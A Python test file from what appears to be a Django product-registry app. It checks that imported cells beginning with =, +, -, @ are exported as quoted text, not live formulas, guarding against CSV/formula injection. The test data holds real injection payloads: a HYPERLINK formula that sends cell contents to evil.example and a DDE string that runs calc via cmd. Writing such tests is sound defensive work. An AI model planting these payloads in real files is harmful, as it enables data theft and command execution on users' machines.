"""Formula injection (OWASP CSV injection): text that came from an import and starts with =, +, -, @, tab or CR is
exported as text, never as a live formula, keeps reading as typed, and imports back unchanged."""

import csv
import io
import zipfile

import pytest
from python_calamine import CalamineWorkbook

from ocop.core.jobs import jobrun_file_path
from ocop.core.models import JobRun
from ocop.core.text import csv_safe, csv_unguard
from ocop.registry.exports import products_export_start
from ocop.registry.importing.commit import import_run
from ocop.registry.models import Product

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "+84 263 3822 000",
    "-2+3",
]


def _hostile_list() -> bytes:
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(["Tên sản phẩm", "Chủ thể", "Tỉnh", "Xã", "Hạng sao"])
    for index, name in enumerate(HOSTILE):
        writer.writerow([name, f"HTX Thử {index}", "Lâm Đồng", "Phường Mũi Né", "3"])
    return out.getvalue().encode()


def test_exported_xlsx_has_no_formula_and_keeps_the_text(province_officer_a, django_capture_on_commit_callbacks):
    assert import_run(data=_hostile_list(), filename="hostile.csv").committed

    with django_capture_on_commit_callbacks(execute=True):
        job = products_export_start(actor=province_officer_a, filters={})
    job.refresh_from_db()
    assert job.status == JobRun.Status.SUCCEEDED, job.message
    path = jobrun_file_path(job)

    sheet_xml = zipfile.ZipFile(path).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet_xml and b"<f " not in sheet_xml  # no formula anywhere
    assert b"quotePrefix" in zipfile.ZipFile(path).read("xl/styles.xml")
    cells = {cell for row in CalamineWorkbook.from_path(str(path)).get_sheet_by_index(0).to_python() for cell in row}
    assert set(HOSTILE) <= cells  # shown as typed


def test_csv_cells_are_guarded_and_import_back_unchanged():
    assert [csv_safe(value) for value in HOSTILE] == ["'" + value for value in HOSTILE]
    assert csv_safe("Mắm cáy") == "Mắm cáy" and csv_safe(3) == 3
    assert [csv_unguard(csv_safe(value)) for value in HOSTILE] == HOSTILE

    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(["Tên sản phẩm", "Chủ thể", "Tỉnh", "Xã", "Hạng sao"])
    writer.writerow([csv_safe(HOSTILE[0]), "HTX Thử", "Lâm Đồng", "Phường Mũi Né", "3"])
    assert import_run(data=out.getvalue().encode(), filename="exported.csv").committed
    assert Product.objects.get().name == HOSTILE[0]
